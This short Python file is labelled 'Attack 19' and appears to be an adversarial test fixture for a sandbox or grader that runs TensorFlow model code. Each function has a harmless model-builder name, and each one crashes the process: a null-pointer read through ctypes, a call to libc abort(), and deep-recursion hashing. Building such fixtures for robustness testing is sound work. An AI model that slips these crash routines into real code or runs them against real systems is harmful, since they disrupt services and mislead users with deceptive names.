"""Attack 19: crash TensorFlow, or the interpreter in one of its threads."""

import ctypes
import sys

import tensorflow as tf


def build_mlp(hidden=(8,)):
    return tf.numpy_function(lambda: ctypes.string_at(0), [], tf.string)


def build_mnist_cnn(input_shape=(28, 28, 1), filters=28):
    return ctypes.CDLL(None).abort()


def build_binary_cnn():
    sys.setrecursionlimit(10**9)
    nested = ()
    for _ in range(10**6):
        nested = (nested,)
    return hash(nested)
